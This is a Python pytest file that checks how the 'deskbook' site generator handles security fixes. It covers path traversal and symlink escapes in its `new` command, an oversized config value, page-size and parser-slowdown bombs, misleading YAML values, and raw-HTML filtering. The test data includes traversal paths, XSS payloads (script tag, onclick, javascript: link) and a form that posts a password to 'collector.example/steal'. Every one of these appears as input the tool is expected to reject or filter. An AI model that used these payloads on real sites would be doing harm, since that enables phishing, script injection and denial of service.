"""Smaller holes of issue 8, driven through the `deskbook` binary: values that slipped through as something
else, pages that made a build take unbounded time or memory, `new` writing outside the site, and raw HTML
that was only safe behind the Content-Security-Policy.

Run with: python3 -m pytest Tests/CommandLine -q (DESKBOOK_BIN picks the binary).
"""
import re

import pytest

from test_commands import DIAGNOSTIC, deskbook, site, write_page  # noqa: F401  (site is a fixture)


def build(source):
    return deskbook("build", "--source", source)


def diagnostics(result):
    return [line for line in result.stderr.splitlines() if DIAGNOSTIC.match(line)]


def test_new_refuses_paths_outside_content_language_folders(site, tmp_path):
    outside = [
        "../../evil.md",
        "content/en/../../../evil.md",
        "content/../deskbook-evil.md",
        str(tmp_path / "absolute.md"),
        "content/xx/unknown-language.md",
        "content/en/.hidden.md",
        "readme.md",
    ]
    for path in outside:
        result = deskbook("new", path, "--source", site)
        assert result.returncode == 2, (path, result.stdout, result.stderr)
        assert "error:" in result.stderr, (path, result.stderr)
    assert not list(tmp_path.rglob("evil.md")) and not (tmp_path / "absolute.md").exists()
    assert not list(tmp_path.rglob("deskbook-evil.md"))

    created = deskbook("new", "en/billing/refunds.md", "--source", site)
    assert created.returncode == 0, created.stderr
    assert (site / "content" / "en" / "billing" / "refunds.md").is_file()


def test_new_does_not_follow_a_symbolic_link_out_of_the_site(site, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (site / "content" / "en" / "linked").symlink_to(elsewhere)
    result = deskbook("new", "content/en/linked/page.md", "--source", site)
    assert result.returncode == 2, result.stderr
    assert "outside the site folder" in result.stderr
    assert not list(elsewhere.iterdir())


def test_a_huge_max_page_size_is_a_configuration_error(site):
    config = site / "deskbook.yml"
    config.write_text(config.read_text() + "max_page_size: 9223372036854775807\n")
    result = build(site)
    assert result.returncode == 2, result.stderr
    assert "'max_page_size' must be a whole number from 1 to 100" in result.stderr
    assert "-1 MB" not in result.stderr


def test_snippets_count_against_the_page_limit(site):
    snippet = site / "content" / "en" / "_snippets" / "megabyte.md"
    snippet.write_text(("x" * 1023 + "\n") * 1024)
    body = "".join('{{< snippet "megabyte" >}}\n' for _ in range(200))
    page = write_page(site, "en/bomb.md", "---\ntitle: Bomb\n---\n" + body)
    assert 4000 < page.stat().st_size < 6000
    result = build(site)
    assert result.returncode == 1, result.stderr
    found = diagnostics(result)
    assert len(found) == 1 and found[0].endswith(
        "bomb.md:7:1: error: including snippet 'megabyte' takes the page to 4.1 MB or more, "
        "over the 4 MB page limit; include less or raise max_page_size"
    ), result.stderr


@pytest.mark.parametrize("front_matter, message", [
    ("title: Ok\ndate: 2026-02-30\n", "bad.md:3:7: error: 'date' must be a date written YYYY-MM-DD that exists in the calendar"),
    ("title: null\n", "bad.md:2:8: error: 'title' must be text, but YAML reads null as no value"),
    ("title: yes\n", "bad.md:2:8: error: 'title' must be text, but YAML reads yes as true or false"),
    ('title: "Reset\\0password"\n', "bad.md:2:8: error: YAML text may not contain U+0000"),
    ('title: Ok\ndescription: "Broken \\uFFFF feed"\n', "bad.md:3:14: error: YAML text may not contain U+FFFF"),
], ids=["impossible-date", "null-title", "boolean-title", "nul-escape", "noncharacter-escape"])
def test_values_that_would_publish_something_else_are_located_errors(site, front_matter, message):
    write_page(site, "en/bad.md", "---\n" + front_matter + "---\nText\n")
    result = build(site)
    assert result.returncode == 1, result.stderr
    assert any(message in line for line in diagnostics(result)), result.stderr
    assert not (site / "public").exists()


def test_a_quoted_yes_is_a_title(site):
    write_page(site, "en/yes.md", '---\ntitle: "yes"\n---\nText\n')
    result = build(site)
    assert result.returncode == 0, result.stderr
    assert "<h1>yes</h1>" in (site / "public" / "en" / "yes" / "index.html").read_text()


@pytest.mark.parametrize("body, message", [
    ("Intro\n\n" + "a <![CDATA[ " * 60_000 + "\n", "slow.md:6:1: error: the page has more than 100 '<![CDATA['"),
    ("| " + " | ".join(["c"] * 10_000) + " |\n|" + "---|" * 10_000 + "\n", "slow.md:4:1: error: a table line with 10000 cells"),
], ids=["cdata", "wide-table"])
def test_pages_the_markdown_parser_reads_slowly_are_refused(site, body, message):
    write_page(site, "en/slow.md", "---\ntitle: Slow\n---\n" + body)
    result = build(site)
    assert result.returncode == 1, result.stderr
    assert any(message in line for line in diagnostics(result)), result.stderr


def test_raw_html_is_filtered_and_forms_go_nowhere_else(site):
    write_page(site, "en/raw.md", """---
title: Raw
---
Before.

<div>
<script/x>alert(1)</script>
</div>

<form action="https://collector.example/steal" method="post"><input name="password"><button>Send</button></form>

<details><summary>More</summary>

Hidden <b onclick="alert(2)">text</b> and <a href="javascript:alert(3)">a link</a>.

</details>
""")
    result = build(site)
    assert result.returncode == 0, result.stderr
    html = (site / "public" / "en" / "raw" / "index.html").read_text()
    article = html[html.index('<div class="prose">'):html.index("</article>")]
    assert "<script" not in article.lower()
    assert "&lt;script/x>alert(1)&lt;/script&gt;" in article
    for tag in ("<form", "<input", "<button", "onclick", "javascript:"):
        assert tag not in article, tag
    assert "<details><summary>More</summary>" in article and "<b>text</b>" in article and "<a>a link</a>" in article
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1)
    assert "form-action 'self'" in policy and "https:" not in policy.split("form-action")[1]
